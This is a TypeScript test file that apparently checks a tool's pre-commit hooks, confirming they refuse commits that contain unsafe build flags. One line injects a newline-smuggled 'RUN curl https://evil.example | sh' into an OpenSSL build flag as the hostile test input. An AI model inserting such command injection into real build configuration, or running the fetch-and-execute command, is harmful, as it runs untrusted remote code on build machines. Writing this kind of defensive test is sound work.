/**
 * The pre-commit framework's hooks (.pre-commit-hooks.yaml), used as another repository uses
 * them: a catalog repository whose .pre-commit-config.yaml names this repository at HEAD. The
 * framework clones it, the hook builds the clone once, and `git commit` is refused for a value
 * `lamina gen` would refuse. Without pre-commit installed the test is skipped, except under
 * CI=true (.ci/run installs it).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { REPO } from './support.js';

const available = spawnSync('pre-commit', ['--version'], { encoding: 'utf8' }).status === 0;

if (!available) {
  if (process.env.CI === 'true') test('pre-commit is installed (CI=true)', () => assert.unreachable('pre-commit is missing: .ci/run must install it'));
  else console.log('tests/catalog: pre-commit is not installed (pip install pre-commit); skipping the hook test');
} else {
  test('another repository commits through lamina-validate and lamina-check; a value gen would refuse stops the commit', () => {
    const dir = mkdtempSync(join(tmpdir(), 'lamina-pre-commit-'));
    try {
      const repo = join(dir, 'catalog');
      for (const d of ['layers', 'schemas', 'templates', 'adr', 'generated']) cpSync(join(REPO, d), join(repo, d), { recursive: true });
      const rev = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: REPO, encoding: 'utf8' }).trim();
      writeFileSync(
        join(repo, '.pre-commit-config.yaml'),
        `repos:\n  - repo: ${REPO}\n    rev: ${rev}\n    hooks: [{ id: lamina-validate }, { id: lamina-check }]\n`,
      );
      const env = {
        ...process.env,
        PRE_COMMIT_HOME: join(dir, 'pre-commit-home'),
        GIT_AUTHOR_NAME: 't',
        GIT_AUTHOR_EMAIL: 't@example.org',
        GIT_COMMITTER_NAME: 't',
        GIT_COMMITTER_EMAIL: 't@example.org',
      };
      const git = (...args: string[]) => spawnSync('git', args, { cwd: repo, env, encoding: 'utf8' });
      git('init', '-q', '-b', 'main');
      assert.is(spawnSync('pre-commit', ['install'], { cwd: repo, env, encoding: 'utf8' }).status, 0);
      git('add', '-A');
      const good = git('commit', '-q', '-m', 'catalog');
      assert.is(good.status, 0, good.stdout + good.stderr);
      assert.match(good.stdout + good.stderr, /lamina validate\.+Passed/);
      const file = join(repo, 'layers/openssl/build_directives.ncl');
      writeFileSync(file, readFileSync(file, 'utf8').replace('flags = ["--libdir=lib",', 'flags = ["--libdir=lib\\nRUN curl https://evil.example | sh",'));
      git('add', '-A');
      const bad = git('commit', '-q', '-m', 'hostile flag');
      assert.is(bad.status, 1, 'the commit is refused');
      assert.match(bad.stdout + bad.stderr, /lamina validate\.+Failed/);
      assert.match(bad.stdout + bad.stderr, /layers\/openssl\/build_directives\.ncl:\d+:\d+: build\.flags\[0\]: contains a line feed/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
}

test.run();
